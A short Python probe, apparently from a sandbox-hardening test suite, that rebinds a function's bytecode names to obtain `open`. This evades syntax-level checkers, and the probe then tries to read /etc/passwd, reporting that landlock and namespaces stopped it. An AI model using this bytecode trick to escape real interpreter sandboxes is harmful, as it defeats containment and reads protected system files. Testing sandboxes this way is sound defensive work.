"""Gives a function another function's code, with names and constants changed.

tries: run bytecode that no checker of syntax saw
layers: landlock, namespaces
observed: stopped
source: asteval issue 32 and GHSA-vp47-9734-prjw; smolagents CVE-2026-4963
"""


def harmless():
    return len


def target():
    return 0


target.__code__ = harmless.__code__.replace(co_names=("open",))
open_ = target()

try:
    with open_("/etc/passwd", "rb") as file:
        result = f"escaped: {len(file.read(16))} bytes of /etc/passwd"
except OSError as error:
    result = f"stopped: {type(error).__name__}"
